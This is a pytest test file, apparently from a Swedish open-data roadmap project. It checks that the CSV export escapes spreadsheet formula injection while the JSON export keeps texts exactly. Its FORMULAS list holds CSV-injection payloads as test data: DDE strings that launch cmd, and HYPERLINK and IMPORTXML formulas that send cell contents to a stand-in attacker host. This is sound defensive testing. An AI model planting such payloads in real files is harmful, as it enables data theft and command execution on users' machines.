"""The CSV open data is safe to open in a spreadsheet; the JSON keeps every text exactly
(issue 10, class 3). A text that starts like a formula (OWASP, "CSV Injection") gets a leading
single quote in its quoted CSV cell, and the "Öppna data" page says so."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from pathlib import Path

import pytest
import yaml
from mkdocs.commands.build import build
from mkdocs.config import load_config

from fardplan import load_roadmap
from fardplan.versions.opendata import CSV_COLUMNS, FORMULA_TRIGGERS, actions_csv
from support import DATA, copy_project

# Formulas that would fetch a web address, leak a neighbouring cell or run a command (DDE).
FORMULAS = [
    '=HYPERLINK("https://angripare.example/?"&A2;"Klicka här")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML("https://angripare.example/";"//a")',
    "=cmd|' /C notepad'!'A1'",
    '="=1+1"',
    "-",
    "@",
    "+",
    "=",
]
# Texts that only contain such characters later on stay as they are.
HARMLESS = [
    "Minska andelen timanställda till 17 % = målet",
    "Arbeta med 2022-2024 + uppföljning",
    "A-2 @ staden",
]


def poisoned_data(path: Path) -> dict:
    """The real data with formulas as the first area's title, need titles, action texts and a body's
    name (each action gets one formula or one harmless text, in turn)."""
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    texts = iter((FORMULAS + HARMLESS) * 100)
    data["ansvariga"][0]["namn"] = FORMULAS[0]
    for area_number, area in enumerate(data["områden"]):
        if area_number == 0:
            area["rubrik"] = FORMULAS[1]
        for need in area["behov"]:
            need["rubrik"] = next(texts)
            for column in ("staden", "behöver-göras"):
                for action in need[column]:
                    action["text"] = next(texts)
    return data


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """A copy of the project with the poisoned data, built for real."""
    project = copy_project(tmp_path_factory.mktemp("csv") / "project")
    data_file = project / "data" / "roadmap.yaml"
    data = poisoned_data(data_file)
    data_file.write_text(
        yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=1000), encoding="utf-8"
    )
    build(load_config(str(project / "mkdocs.yml"), strict=True))  # into project/site, as `mkdocs build`
    return project, data


def read_csv(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))


def expected_rows(data: dict) -> list[list[str]]:
    """The CSV's rows computed from the YAML itself: as typed, with ' before a formula."""

    def safe(text) -> str:
        text = str(text)
        return "'" + text if text[:1] in {"=", "+", "-", "@", "\t", "\r"} else text

    bodies = {b["id"]: b["namn"] for b in data["ansvariga"]}
    rows = []
    for area in data["områden"]:
        for need in area["behov"]:
            for column, label in (("staden", "Staden"), ("behöver-göras", "Behöver göras mer")):
                for action in need[column]:
                    rows.append(
                        [
                            safe(v)
                            for v in (
                                area["rubrik"],
                                area["id"],
                                need["rubrik"],
                                need["id"],
                                action["id"],
                                action["text"],
                                label,
                                bodies[action["ansvarig"]],
                                action["ansvarig"],
                                action["status"],
                                action.get("tidshorisont", ""),
                                need["tidshorisont"],
                            )
                        ]
                    )
    return rows


def test_formula_cells_start_with_a_quote_and_the_rest_is_exact(built):
    project, data = built
    raw = (project / "site" / "data" / "roadmap.csv").read_bytes()
    rows = read_csv(raw)
    assert rows[0] == list(CSV_COLUMNS)
    assert rows[1:] == expected_rows(data)
    cells = [cell for row in rows[1:] for cell in row]
    for formula in FORMULAS:
        assert "'" + formula in cells
        assert formula not in cells
    for text in HARMLESS:
        assert text in cells
    # No cell a spreadsheet would compute.
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]


def test_every_cell_is_quoted(built):
    project, _ = built
    lines = (project / "site" / "data" / "roadmap.csv").read_bytes().decode("utf-8").split("\r\n")
    record = re.compile(r'^"([^"]|"")*"(,"([^"]|"")*")*$')
    # Cells never hold line breaks here, so each physical line is one record.
    assert all(record.match(line) for line in lines if line), lines[:3]


def test_json_keeps_the_formulas_exactly(built):
    project, data = built
    published = json.loads((project / "site" / "data" / "roadmap.json").read_text(encoding="utf-8"))
    assert published["ansvariga"][0]["namn"] == FORMULAS[0]
    assert published["områden"][0]["rubrik"] == FORMULAS[1]
    texts = [
        a["text"]
        for area in published["områden"]
        for need in area["behov"]
        for column in ("staden", "behöver-göras")
        for a in need.get(column, [])
    ]
    assert texts == [
        a["text"]
        for area in data["områden"]
        for need in area["behov"]
        for column in ("staden", "behöver-göras")
        for a in need[column]
    ]
    assert set(FORMULAS) <= set(texts) | {n["rubrik"] for area in published["områden"] for n in area["behov"]}


def test_the_open_data_page_says_so_in_swedish(built):
    project, _ = built
    page = (project / "site" / "oppna-data" / "index.html").read_text(encoding="utf-8")
    assert "Därför står en apostrof (<code>'</code>) först i sådana fält i CSV-filen" in page
    assert "I JSON-filen står alla texter exakt som de är skrivna" in page


@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", "\t", "=\t1", "-\r\n1"])
def test_tab_and_carriage_return_at_the_start_are_neutralised(text):
    """Tab and carriage return lead a formula too; tested on the model, whatever the data checks
    allow in a text."""
    roadmap = load_roadmap(DATA)
    area = roadmap.areas[0]
    need = replace(area.needs[0], city=(replace(area.needs[0].city[0], text=text),) + area.needs[0].city[1:])
    roadmap = replace(roadmap, areas=(replace(area, needs=(need,) + area.needs[1:]),) + roadmap.areas[1:])
    rows = read_csv(actions_csv(roadmap))
    assert rows[1][CSV_COLUMNS.index("åtgärd")] == "'" + text
